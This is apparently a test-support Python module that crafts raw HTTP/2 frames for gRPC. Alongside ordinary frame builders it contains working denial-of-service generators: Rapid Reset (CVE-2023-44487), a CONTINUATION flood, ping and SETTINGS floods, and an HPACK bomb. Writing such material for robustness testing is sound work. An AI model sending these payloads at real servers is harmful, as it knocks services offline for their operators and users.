"""HTTP/2 bytes of a gRPC client that may break any rule. Pure: bytes in, bytes out.

A block of `request_block` never touches the peer's dynamic table, so it can be sent on any stream, any number
of times.
"""

from __future__ import annotations

import base64
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Final

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_BYTES_MAX: Final = 16_384
"""Largest frame that every peer accepts (RFC 9113, 4.2)."""

CANCEL: Final = 8
"""Error code of a stream that is no longer wanted (RFC 9113, 7)."""

Metadata = Sequence[tuple[str, str | bytes]]


def framed(message: bytes, *, length: int | None = None, flag: int = 0) -> bytes:
    """Return `message` after gRPC's prefix of five bytes; `length` and `flag` are the prefix's values."""
    claimed = len(message) if length is None else length
    return bytes((flag,)) + claimed.to_bytes(4, "big") + message


def request_block(
    path: str,
    metadata: Metadata = (),
    *,
    authority: str = "mesh",
    deadline_s: float | None = None,
    pseudo: Mapping[str, str] | None = None,
) -> bytes:
    """Return the header block of a gRPC call of `path`, for example "/package.Service/Method".

    A name that ends in "-bin" takes bytes, which travel as base64. `pseudo` replaces the pseudo headers.
    """
    start = pseudo or {":method": "POST", ":scheme": "http", ":path": path, ":authority": authority}
    headers: list[tuple[bytes, bytes]] = [(name.encode(), value.encode()) for name, value in start.items()]
    headers += [(b"te", b"trailers"), (b"content-type", b"application/grpc"), (b"user-agent", b"raw-http2")]
    if deadline_s is not None:
        headers.append((b"grpc-timeout", f"{max(1, round(deadline_s * 1000))}m".encode()))
    for name, value in metadata:
        raw = value if isinstance(value, bytes) else value.encode()
        headers.append((name.encode(), base64.b64encode(raw) if name.endswith("-bin") else raw))
    return literal_block(headers)


def literal_block(headers: Iterable[tuple[bytes, bytes]]) -> bytes:
    """Return a header block that adds nothing to the peer's table."""
    return Encoder().encode([(name, value, True) for name, value in headers], huffman=False)


def headers_frames(stream: int, block: bytes, *, end_stream: bool = False, end: bool = True) -> list[Frame]:
    """Return `block` as one HEADERS frame and the necessary CONTINUATION frames; `end` marks the block
    complete.
    """
    parts = [block[at : at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)] or [b""]
    first = HeadersFrame(stream, parts[0], flags=["END_STREAM"] if end_stream else [])
    frames: list[Frame] = [first, *(ContinuationFrame(stream, part) for part in parts[1:])]
    if end:
        frames[-1].flags.add("END_HEADERS")
    return frames


def data_frames(stream: int, data: bytes, *, end_stream: bool = False) -> list[Frame]:
    """Return `data` as DATA frames; the caller keeps the windows."""
    parts = [data[at : at + FRAME_BYTES_MAX] for at in range(0, len(data), FRAME_BYTES_MAX)] or [b""]
    frames: list[Frame] = [DataFrame(stream, part) for part in parts]
    if end_stream:
        frames[-1].flags.add("END_STREAM")
    return frames


def reset_frame(stream: int, code: int = CANCEL) -> Frame:
    """Return RST_STREAM."""
    return RstStreamFrame(stream, code)


def window_frame(stream: int, increment: int) -> Frame:
    """Return WINDOW_UPDATE; stream 0 is the connection."""
    return WindowUpdateFrame(stream, increment)


def rapid_resets(block: bytes, count: int, first_stream: int = 1) -> Iterator[bytes]:
    """Yield `count` streams that are opened and reset at once (CVE-2023-44487), each as bytes.

    The caller sends them on a connection that opens no other stream, since their numbers begin at
    `first_stream`.
    """
    for stream in range(first_stream, first_stream + 2 * count, 2):
        opening = headers_frames(stream, block)
        yield b"".join(frame.serialize() for frame in (*opening, reset_frame(stream)))


def open_headers(block: bytes, count: int, first_stream: int = 1) -> Iterator[bytes]:
    """Yield `count` streams with headers and without a body, each as bytes."""
    for stream in range(first_stream, first_stream + 2 * count, 2):
        yield b"".join(frame.serialize() for frame in headers_frames(stream, block))


def continuation_flood(block: bytes, count: int, piece: bytes, stream: int = 1) -> Iterator[bytes]:
    """Yield one header block that never ends: HEADERS, then `count` CONTINUATION frames of `piece`."""
    yield b"".join(frame.serialize() for frame in headers_frames(stream, block, end=False))
    more = ContinuationFrame(stream, piece).serialize()
    for _ in range(count):
        yield more


def ping_flood(count: int) -> Iterator[bytes]:
    """Yield `count` pings, each of which the peer must answer."""
    for number in range(count):
        yield PingFrame(0, number.to_bytes(8, "big")).serialize()


def settings_flood(count: int) -> Iterator[bytes]:
    """Yield `count` SETTINGS, each of which the peer must acknowledge and which moves every stream's window."""
    for number in range(count):
        yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535 + number % 2}).serialize()


def hpack_bomb(references: int, value_bytes: int = 4_000) -> bytes:
    """Return a small header block that expands to a large one: one dynamic-table entry, used `references`
    times.
    """
    name = b"x-bomb"
    entry = b"\x40" + _string(name) + _string(b"a" * value_bytes)
    indexed = bytes((0x80 | 62,))  # the newest entry of the dynamic table (RFC 7541, 2.3.3)
    return entry + indexed * references


def _string(value: bytes) -> bytes:
    """Return a literal string of HPACK (RFC 7541, 5.2), not Huffman coded."""
    length = len(value)
    if length < 127:
        return bytes((length,)) + value
    out = bytearray((127,))
    length -= 127
    while length >= 128:
        out.append(0x80 | (length & 0x7F))
        length >>= 7
    out.append(length)
    return bytes(out) + value
